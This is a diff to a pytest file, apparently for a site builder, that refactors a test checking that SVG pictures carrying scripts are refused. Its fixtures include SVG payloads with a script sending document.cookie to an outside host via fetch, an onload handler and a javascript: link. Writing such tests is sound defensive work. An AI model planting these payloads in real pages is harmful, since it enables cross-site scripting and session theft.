@@ -101,10 +101,13 @@ def test_a_link_to_an_easy_read_text_that_does_not_exist_is_one_message(tmp_path
                      "this site does not have", "link to the page itself ('start/formats.md')")
 
 
+SVG = "<svg xmlns='http://www.w3.org/2000/svg'>\n{}</svg>"
+
+
 @pytest.mark.parametrize("drawing, shown", [
-    ("<svg xmlns='http://www.w3.org/2000/svg'>\n<script>fetch('https://example.org/?' + document.cookie)</script></svg>", "<script"),
-    ("<svg xmlns='http://www.w3.org/2000/svg'>\n<rect width='9' height='9' onload='alert(1)'/></svg>", "onload="),
-    ("<svg xmlns='http://www.w3.org/2000/svg'>\n<a href='javascript:alert(1)'><rect width='9' height='9'/></a></svg>", "javascript:"),
+    (SVG.format("<script>fetch('https://example.org/?' + document.cookie)</script>"), "<script"),
+    (SVG.format("<rect width='9' height='9' onload='alert(1)'/>"), "onload="),
+    (SVG.format("<a href='javascript:alert(1)'><rect width='9' height='9'/></a>"), "javascript:"),
 ], ids=["script", "onload", "javascript: link"])
 def test_a_picture_that_holds_a_script_is_refused(tmp_path, drawing, shown):
     root = fixture_site.make(tmp_path, pages={"drawn.md": PAGE.format(body="![A square](assets/square.svg)\n")})
